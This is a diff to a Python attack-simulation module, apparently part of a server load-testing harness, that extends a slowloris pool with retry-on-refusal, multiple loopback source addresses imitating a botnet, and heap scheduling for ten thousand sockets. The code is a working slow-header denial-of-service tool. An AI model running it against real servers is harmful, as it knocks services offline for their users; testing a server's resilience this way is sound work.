@@ -11,6 +11,8 @@ each: on a 2-core machine 270 client threads would be the load, not the attack.
 
 from __future__ import annotations
 
+import heapq
+import itertools
 import selectors
 import socket
 import threading
@@ -54,7 +56,9 @@ class _Slow:
     sock: socket.socket
     record: SocketRecord
     next_send: float
+    source: str
     sent: int = 0
+    open: bool = True
 
 
 ATTACKER_ADDRESS = "127.0.1.1"
@@ -68,7 +72,13 @@ class AttackPool:
     server's buffers fill and its writer blocks). ``slowloris`` connections each send one byte of
     an endless header every ``trickle_seconds``; when the server closes one, another takes its
     place until ``stop()``, so the pressure lasts the whole attack (at most ``max_reopen``
-    openings per socket). Connects that fail are counted, not retried in a loop.
+    openings per socket). A connect that fails (refused, or reset by a cap) is counted and
+    tried again on the next pass, within the same bound.
+
+    ``sources`` spreads the slowloris sockets over that many attacker addresses (127.0.1.1,
+    127.0.1.2, …: a botnet rather than one host); a reopened socket keeps its address. The
+    trickle is scheduled on a heap, so ten thousand sockets cost the pool per byte sent, not
+    per socket per pass.
     """
 
     host: str
@@ -81,12 +91,18 @@ class AttackPool:
     # The attacker's own address (all of 127.0.0.0/8 is loopback), as a real one would have:
     # probes from 127.0.0.1 are then not behind the attacker's per-address connection cap.
     source: str = ATTACKER_ADDRESS
+    sources: int = 1  # slowloris addresses: source, then the next ones in its /24
     records: list[SocketRecord] = field(default_factory=list)
     connect_failures: int = 0
 
     def __post_init__(self) -> None:
         self._selector = selectors.DefaultSelector()
         self._slow: dict[int, _Slow] = {}
+        self._due: list[tuple[float, int, _Slow]] = []  # (next send, tie-breaker, socket)
+        self._seq = itertools.count()
+        self._retry: list[str] = []  # addresses whose connect failed, to open again
+        prefix, last = self.source.rsplit(".", 1)
+        self._addresses = [f"{prefix}.{int(last) + i}" for i in range(max(1, self.sources))]
         self._stalled: list[socket.socket] = []
         self._stop = threading.Event()
         self._thread = threading.Thread(target=self._run, name="attack-pool", daemon=True)
@@ -103,7 +119,8 @@ class AttackPool:
         now = time.monotonic()
         for i in range(self.slowloris):
             # Spread the trickled bytes over the period so the loop sends a few at a time.
-            self._open_slow(now + self.trickle_seconds * i / max(1, self.slowloris))
+            source = self._addresses[i % len(self._addresses)]
+            self._open_slow(now + self.trickle_seconds * i / max(1, self.slowloris), source)
         self._thread.start()
 
     def stop(self) -> None:
@@ -124,29 +141,34 @@ class AttackPool:
     def slowloris_records(self) -> list[SocketRecord]:
         return [r for r in self.records if r.kind == "slowloris"]
 
-    def _connect(self) -> socket.socket | None:
+    def _connect(self, source: str = "") -> socket.socket | None:
         try:
             return socket.create_connection(
-                (self.host, self.port), timeout=CONNECT_TIMEOUT, source_address=(self.source, 0)
+                (self.host, self.port),
+                timeout=CONNECT_TIMEOUT,
+                source_address=(source or self.source, 0),
             )
         except OSError:
             self.connect_failures += 1
             return None
 
-    def _open_slow(self, first_send: float) -> None:
+    def _open_slow(self, first_send: float, source: str) -> None:
         if self._openings >= self.slowloris * self.max_reopen:
             return
         self._openings += 1
-        sock = self._connect()
-        if sock is None:
+        sock = self._connect(source)
+        if sock is None:  # refused or reset at once (a cap): try again, as an attacker would
+            self._retry.append(source)
             return
         sock.setblocking(False)
-        slow = _Slow(sock, SocketRecord("slowloris", time.monotonic()), first_send)
+        slow = _Slow(sock, SocketRecord("slowloris", time.monotonic()), first_send, source)
         self.records.append(slow.record)
         self._slow[sock.fileno()] = slow
         self._selector.register(sock, selectors.EVENT_READ, slow)
+        heapq.heappush(self._due, (first_send, next(self._seq), slow))
 
     def _close(self, slow: _Slow, by_server: bool, when: float) -> None:
+        slow.open = False
         self._slow.pop(slow.sock.fileno(), None)
         self._selector.unregister(slow.sock)
         slow.sock.close()
@@ -160,8 +182,13 @@ class AttackPool:
             for key, _ in self._selector.select(timeout=0.05):
                 self._readable(key.data)
             now = time.monotonic()
-            for slow in list(self._slow.values()):
-                if now >= slow.next_send:
+            retry, self._retry = self._retry, []
+            for source in retry:
+                if not self._stop.is_set():
+                    self._open_slow(now, source)
+            while self._due and self._due[0][0] <= now:
+                _, _, slow = heapq.heappop(self._due)
+                if slow.open:
                     self._trickle(slow, now)
 
     def _readable(self, slow: _Slow) -> None:
@@ -176,7 +203,7 @@ class AttackPool:
             return
         self._close(slow, by_server=True, when=time.monotonic())
         if not self._stop.is_set():
-            self._open_slow(time.monotonic())
+            self._open_slow(time.monotonic(), slow.source)
 
     def _trickle(self, slow: _Slow, now: float) -> None:
         try:
@@ -186,12 +213,13 @@ class AttackPool:
         except OSError:
             self._close(slow, by_server=True, when=now)
             if not self._stop.is_set():
-                self._open_slow(now)
+                self._open_slow(now, slow.source)
             return
         if slow.sent == 0:
             slow.record.first_sent = now
         slow.sent += 1
         slow.next_send = now + self.trickle_seconds
+        heapq.heappush(self._due, (slow.next_send, next(self._seq), slow))
 
 
 @dataclass
